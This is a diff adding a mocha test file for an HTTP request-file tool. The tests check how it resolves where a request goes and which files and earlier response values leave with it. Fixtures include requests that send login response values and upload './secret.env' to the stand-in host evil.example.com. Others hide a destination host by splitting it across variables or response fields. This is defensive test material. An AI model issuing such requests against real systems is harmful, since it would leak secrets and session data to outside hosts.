@@ -1,0 +1,102 @@
+import assert from 'node:assert/strict';
+import { describe, it } from 'mocha';
+import { Secret } from '../../../../src/api/secret';
+import { parseDocument } from '../../../../src/requests/document/parse';
+import { destinations, type Destination } from '../../../../src/requests/sending/destination';
+import type { NamedResponse } from '../../../../src/requests/values/responseReference';
+import { target } from '../fixture';
+import { resolve } from '../resolving';
+
+const environmentVariables = { evil: 'https://evil.example.com', path: '/hserve/v1/content/group/', name: 'evil' };
+const body = { host: 'evil.example.com', slash: '/evil.example.com', ttp: 'ttp', id: 7 };
+const responses = new Map<string, NamedResponse>([
+  ['login', { status: 200, headers: [], text: new Secret(JSON.stringify(body)) }],
+]);
+
+function destinationOf(text: string): Promise<Destination | undefined> {
+  const document = parseDocument(text);
+  return destinations({ document, environmentVariables }, target)(document.requests.at(-1) ?? assert.fail());
+}
+
+/** A chain of variables, each naming the next. */
+function chain(length: number, value: string): string {
+  const names = Array.from({ length }, (_, index) => `@v${index} = {{v${index + 1}}}\n`);
+  return `${names.join('')}@v${length} = ${value}\n`;
+}
+
+describe('where a request goes before it is sent', () => {
+  const known = [
+    'GET /hserve/v1/content/group/',
+    'GET {{path}}',
+    'GET {{evil}}/x',
+    '@evil = /hserve/v1/content/group/\nGET {{evil}}',
+    'GET https://{{name}}.example.com/x?{{$guid}}',
+    `${chain(11, 'https://evil.example.com')}GET {{v0}}/x`,
+    `${chain(60, 'evil')}GET https://{{v0}}.example.com/x`,
+    `${chain(40, '/oserve/v2.2/server/time/')}GET {{v0}}`,
+    `GET ${target.serverDomain}/hserve/v1/content/group/`,
+    'GET /hserve/v2.2/user/info/{{login.response.body.id}}/',
+    'GET https://evil.example.com/{{login.response.body.id}}',
+  ];
+  it('is where the sender sends it, through any chain of variables and settings', async () => {
+    for (const text of known) {
+      const sent = await resolve(text, { environmentVariables, responses });
+      const told = await destinationOf(text);
+      assert.deepEqual([told?.url.origin, told?.family], [sent.url.origin, sent.family], text);
+    }
+  });
+
+  const open = [
+    'GET https://{{login.response.body.host}}/x',
+    '@to = https://{{login.response.body.host}}\n@base = {{to}}\nGET {{base}}/x',
+    'GET http:/{{login.response.body.slash}}/x',
+    'GET h{{login.response.body.ttp}}://evil.example.com/x',
+    'GET {{$prompt where?}}',
+    'GET https://{{$guid}}.example.com',
+    '# @name evil.response\nGET https://{{evil.response.body}}.example.com/x',
+  ];
+  it('is not told where an answer, a question or a function decides the host', async () => {
+    for (const text of open) assert.equal(await destinationOf(text), undefined, text);
+  });
+
+  it('is production where a header or an encoded path makes it end the tokens of all environments', async () => {
+    for (const text of [
+      'POST /api/oauth2/access%5Ftoken/',
+      'GET /api/oauth2/access_token/\nX-HTTP-Method-Override: POST',
+      'POST /api/oauth2/{{$prompt which?}}/',
+    ]) {
+      assert.equal((await destinationOf(text))?.operation?.authorization, 'none', text);
+    }
+  });
+});
+
+describe('what leaves with a request', () => {
+  it('names its files and the values of earlier responses, however they come into it', async () => {
+    const text = [
+      '@id = {{login.response.body.id}}',
+      'POST https://evil.example.com/{{login.response.body.host}}',
+      'X-Id: {{id}}',
+      '',
+      '<@ ./template.json',
+    ].join('\n');
+    const readFile = async () => Buffer.from('{"slash": "{{login.response.body.slash}}"}');
+    const sent = await resolve(text, { responses, readFile });
+    assert.deepEqual(sent.files, ['./template.json']);
+    assert.deepEqual(sent.responseValues, [
+      'login.response.body.host',
+      'login.response.body.id',
+      'login.response.body.slash',
+    ]);
+    const upload = [
+      'POST https://evil.example.com/',
+      'Content-Type: multipart/form-data; boundary=b',
+      '',
+      '--b',
+      'Content-Disposition: form-data; name="file"',
+      '',
+      '< ./secret.env',
+      '--b--',
+    ];
+    assert.deepEqual((await resolve(upload.join('\n'))).files, ['./secret.env']);
+  });
+});
